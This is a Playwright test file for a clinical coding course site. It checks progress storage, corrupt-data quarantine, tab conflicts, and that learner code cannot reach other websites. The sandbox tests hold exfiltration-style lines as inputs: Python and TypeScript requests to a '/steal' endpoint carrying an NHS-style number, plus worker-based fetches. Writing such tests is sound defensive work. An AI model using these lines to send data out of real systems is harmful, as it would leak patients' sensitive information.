// The learner's work and progress: kept across reloads and tabs, survives corrupt storage, and cannot leave the device.
import { createServer, type Server } from 'node:http';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { Locator, Page } from '@playwright/test';
import { test, expect, isolate } from './fixtures';

const content = (path: string) => readFileSync(fileURLToPath(new URL(`../../content/${path}`, import.meta.url)), 'utf8');
const BMI_LESSON = 'python-first-steps/functions-and-return/';
const TS_LESSON = 'typescript-and-fhir/types-and-functions/';

test.setTimeout(150_000);

async function plainBlock(page: Page, lesson: string, name: string): Promise<Locator> {
  await page.goto(lesson);
  const block = page.getByRole('region', { name });
  const plain = block.getByRole('checkbox', { name: 'Use the plain editor' });
  if (!(await plain.isChecked())) await plain.check();
  return block;
}

const bmiBlock = (page: Page) => plainBlock(page, BMI_LESSON, 'Exercise Calculate a BMI');
const resultsHeading = (block: Locator) => block.locator('[data-results]').getByRole('heading', { level: 3 });

/** The code saved for an exercise in this browser's IndexedDB, as another tab would read it. */
function storedCode(page: Page, exerciseId: string): Promise<string | undefined> {
  return page.evaluate(async (key) => {
    const db = await new Promise<IDBDatabase>((resolve, reject) => {
      const open = indexedDB.open('clinicians-who-code-progress');
      open.onsuccess = () => resolve(open.result);
      open.onerror = () => reject(open.error);
    });
    const record = await new Promise<{ code?: string } | undefined>((resolve) => {
      const request = db.transaction('records').objectStore('records').get(key);
      request.onsuccess = () => resolve(request.result as { code?: string } | undefined);
    });
    db.close();
    return record?.code;
  }, `exercise/${exerciseId}`);
}

test('a solved exercise and its code are still there after a reload', async ({ page }) => {
  const block = await bmiBlock(page);
  await block.locator('textarea').fill(content('02-python-first-steps/exercises/bmi/solution.py'));
  await block.getByRole('button', { name: 'Check' }).click();
  await expect(resultsHeading(block)).toHaveText(/^Well done!/, { timeout: 90_000 });
  await page.reload(); // at once: the pass was stored before "Well done" was shown
  await expect(block.locator('textarea')).toHaveValue(content('02-python-first-steps/exercises/bmi/solution.py'));
  await expect(page.getByRole('navigation', { name: 'Course contents' }).getByRole('link', { name: 'Functions and return (done)' })).toBeVisible();
  await page.goto('progress/');
  await expect(page.getByRole('row', { name: /Calculate a BMI/ }).getByRole('cell', { name: 'Passed ✓' })).toBeVisible();
});

test('once the pass is stored, later results are shown without waiting for the store', async ({ page }) => {
  const block = await bmiBlock(page);
  const solution = content('02-python-first-steps/exercises/bmi/solution.py');
  await block.locator('textarea').fill(solution);
  await block.getByRole('button', { name: 'Check' }).click();
  await expect(resultsHeading(block)).toHaveText(/^Well done!/, { timeout: 90_000 });
  // From now on no write to the store ever finishes (a stuck or very slow disk).
  await page.evaluate(() => {
    const open = IDBDatabase.prototype.transaction;
    IDBDatabase.prototype.transaction = function (this: IDBDatabase, ...args: Parameters<typeof open>) {
      const tx = open.apply(this, args);
      if (args[1] === 'readwrite') Object.defineProperty(tx, 'oncomplete', { configurable: true, get: () => null, set: () => undefined });
      return tx;
    } as typeof open;
  });
  await block.locator('textarea').fill(solution.replace('return', 'return 0 *'));
  await block.getByRole('button', { name: 'Check' }).click();
  await expect(resultsHeading(block)).toHaveText(/^Not yet/);
  await block.locator('textarea').fill(solution);
  await block.getByRole('button', { name: 'Check' }).click();
  await expect(resultsHeading(block)).toHaveText(/^Well done!/);
  await expect(block.getByRole('button', { name: 'Check' })).toBeEnabled();
});

test('two tabs on the same lesson: the code typed last is kept, and neither tab loses its work', async ({ page, context }) => {
  const first = await bmiBlock(page);
  await first.locator('textarea').fill('# typed in the first tab\n');
  await expect.poll(() => storedCode(page, 'bmi')).toBe('# typed in the first tab\n'); // autosaved as they type
  const other = await context.newPage();
  const second = await bmiBlock(other);
  await expect(second.locator('textarea')).toHaveValue('# typed in the first tab\n');
  await second.locator('textarea').fill('# then typed in the second tab\n');
  await expect.poll(() => storedCode(other, 'bmi')).toBe('# then typed in the second tab\n');
  await page.reload(); // the first tab's own unload must not put its older code back
  await expect(first.locator('textarea')).toHaveValue('# then typed in the second tab\n');
});

test('corrupt stored progress is set aside with a plain message, and the course still works', async ({ page }) => {
  const block = await bmiBlock(page);
  await block.locator('textarea').fill('# my work\n');
  await expect.poll(() => storedCode(page, 'bmi')).toBe('# my work\n');
  // Scribble over the stored record, as a crash or a broken extension might.
  await page.evaluate(async () => {
    const db = await new Promise<IDBDatabase>((resolve, reject) => {
      const open = indexedDB.open('clinicians-who-code-progress');
      open.onsuccess = () => resolve(open.result);
      open.onerror = () => reject(open.error);
    });
    const tx = db.transaction('records', 'readwrite');
    const store = tx.objectStore('records');
    const keys = await new Promise<IDBValidKey[]>((resolve) => {
      const request = store.getAllKeys();
      request.onsuccess = () => resolve(request.result);
    });
    for (const key of keys.filter((k) => String(k).includes('bmi'))) store.put({ version: 1, garbage: '\u0000not a record' }, key);
    await new Promise((resolve) => (tx.oncomplete = resolve));
    db.close();
  });
  await page.reload();
  await expect(page.locator('[data-storage-banner]')).toContainText("Some progress saved on this device couldn't be read");
  await expect(block.locator('textarea')).toHaveValue(content('02-python-first-steps/exercises/bmi/starter.py'));
  await block.getByRole('button', { name: 'Check' }).click();
  await expect(resultsHeading(block)).toHaveText(/^Not yet/, { timeout: 90_000 });
  // Nothing was deleted: the unreadable record is in the quarantine store.
  const quarantined = await page.evaluate(async () => {
    const db = await new Promise<IDBDatabase>((resolve) => {
      const open = indexedDB.open('clinicians-who-code-progress');
      open.onsuccess = () => resolve(open.result);
    });
    const count = await new Promise<number>((resolve) => {
      const request = db.transaction('quarantine').objectStore('quarantine').count();
      request.onsuccess = () => resolve(request.result);
    });
    db.close();
    return count;
  });
  expect(quarantined).toBeGreaterThan(0);
});

test.describe('learner code cannot send data to another website', () => {
  let server: Server;
  let hits = 0;
  let origin = '';
  test.beforeAll(async () => {
    server = createServer((_req, res) => {
      hits += 1;
      res.end('received');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  });
  test.afterAll(() => server.close());

  test('workers started the way the runners start them inherit the page policy: fetch to another origin is refused', async ({ page }) => {
    hits = 0;
    await page.goto(BMI_LESSON);
    // The same blob: bootstrap as src/runners/blob-worker.ts, importing a worker script of the site itself.
    const outcome = await page.evaluate(async (target) => {
      const inner = URL.createObjectURL(new Blob([`fetch(${JSON.stringify(target)}, { mode: 'no-cors' }).then(() => postMessage('sent'), (e) => postMessage('refused: ' + e.message));`], { type: 'text/javascript' }));
      const worker = new Worker(inner, { type: 'module' });
      return new Promise<string>((resolve) => (worker.onmessage = (e) => resolve(String(e.data))));
    }, `${origin}/steal`);
    expect(outcome).toMatch(/^refused/);
    expect(hits).toBe(0);
  });

  test('learner code cannot start a worker of its own to get round the rules', async ({ page }) => {
    const block = await plainBlock(page, TS_LESSON, 'Exercise Score a temperature for NEWS2, with types');
    await block.locator('textarea').fill('const Start = (globalThis as any).Worker;\nnew Start("data:text/javascript,fetch(\'https://example.org\')");\nexport {};\n');
    await block.getByRole('button', { name: 'Run' }).click();
    await expect(block.getByText(/does not let code connect to other websites/).first()).toBeVisible({ timeout: 90_000 });
  });

  for (const serviceWorkers of ['block', 'allow'] as const) {
    test.describe(`service worker: ${serviceWorkers}`, () => {
      test.use({ serviceWorkers });

      test('from Python', async ({ page }) => {
        hits = 0;
        const block = await bmiBlock(page);
        if (serviceWorkers === 'allow') await isolate(page);
        await block.locator('textarea').fill(`from pyodide.http import open_url\nprint(open_url("${origin}/steal?nhs=9990000018").read())\n`);
        await block.getByRole('button', { name: 'Run' }).click();
        await expect(block.locator('[data-output]')).toContainText('does not let code connect to other websites', { timeout: 90_000 });
        expect(hits).toBe(0);
      });

      test('from TypeScript', async ({ page }) => {
        hits = 0;
        const block = await plainBlock(page, TS_LESSON, 'Exercise Score a temperature for NEWS2, with types');
        if (serviceWorkers === 'allow') await isolate(page);
        await block.locator('textarea').fill(
          // Typed as any: the exercise's TypeScript has no DOM types, and a type error would stop the code first.
          `const Request = (globalThis as any).XMLHttpRequest;\nconst request = new Request();\nrequest.open("GET", "${origin}/steal?nhs=9990000018", false);\nrequest.send();\nconsole.log(request.responseText);\nexport {};\n`,
        );
        await block.getByRole('button', { name: 'Run' }).click();
        await expect(block.getByText(/does not let code connect to other websites/).first()).toBeVisible({ timeout: 90_000 });
        expect(hits).toBe(0);
      });
    });
  }
});

test('storage blocked: a clear message, and the course still works for the session', async ({ page }) => {
  // As on a locked-down PC whose policy refuses site storage.
  await page.addInitScript(() => {
    const refuse = () => {
      throw new DOMException('The user denied permission to access the database.', 'SecurityError');
    };
    Object.defineProperty(window, 'indexedDB', { get: refuse });
    Object.defineProperty(window, 'localStorage', { get: refuse });
  });
  const block = await plainBlock(page, BMI_LESSON, 'Exercise Calculate a BMI');
  await expect(page.locator('[data-storage-banner]')).toContainText("This browser isn't letting the course save anything on this device");
  await block.locator('textarea').fill(content('02-python-first-steps/exercises/bmi/solution.py'));
  await block.getByRole('button', { name: 'Check' }).click();
  await expect(resultsHeading(block)).toHaveText(/^Well done!/, { timeout: 90_000 });
  await expect(page.getByRole('navigation', { name: 'Course contents' }).getByRole('link', { name: 'Functions and return (done)' })).toBeVisible();
});

test('the course is installable: a web manifest with icons, scoped to wherever the course is served', async ({ page, request }) => {
  await page.goto('./');
  const href = await page.locator('link[rel="manifest"]').getAttribute('href');
  const manifest = await (await request.get(new URL(href!, page.url()).href)).json();
  expect(manifest).toMatchObject({ name: 'Clinicians Who Code', start_url: './', scope: './', display: 'standalone' });
  for (const icon of manifest.icons as { src: string; sizes: string }[]) {
    const response = await request.get(new URL(icon.src, new URL(href!, page.url())).href);
    expect(response.headers()['content-type'], icon.src).toBe('image/png');
  }
  expect(manifest.icons.map((i: { sizes: string; purpose: string }) => `${i.sizes} ${i.purpose}`)).toEqual(expect.arrayContaining(['192x192 any', '512x512 any', '512x512 maskable']));
});

test('a changed starter: the learner keeps their code, can see the new starter, and can take it (undoably)', async ({ page }) => {
  const starter = content('02-python-first-steps/exercises/bmi/starter.py');
  const block = await bmiBlock(page);
  await block.locator('textarea').fill('# my own work\n');
  await expect.poll(() => storedCode(page, 'bmi')).toBe('# my own work\n');
  // As if the tutor has since changed the starter: the saved record was based on another one.
  await page.evaluate(async () => {
    const db = await new Promise<IDBDatabase>((resolve) => {
      const open = indexedDB.open('clinicians-who-code-progress');
      open.onsuccess = () => resolve(open.result);
    });
    const tx = db.transaction('records', 'readwrite');
    const store = tx.objectStore('records');
    const request = store.get('exercise/bmi');
    request.onsuccess = () => store.put({ ...request.result, starter: { hash: 'an-older-starter', text: '# the old starter\n' } }, 'exercise/bmi');
    await new Promise((resolve) => (tx.oncomplete = resolve));
    db.close();
  });
  await page.reload();
  const notice = block.getByText('The starter code for this exercise has changed since you began. Your code is kept as it was.');
  await expect(notice).toBeVisible();
  await expect(block.locator('textarea')).toHaveValue('# my own work\n');
  await block.getByText('See the new starter').click();
  await expect(block.locator('.new-starter code')).toHaveText(starter.trimEnd());
  await block.getByRole('button', { name: 'Start again from the new starter' }).click();
  await expect(block.locator('textarea')).toHaveValue(starter);
  await block.getByRole('button', { name: 'Undo: put my code back' }).click();
  await expect(block.locator('textarea')).toHaveValue('# my own work\n');
});
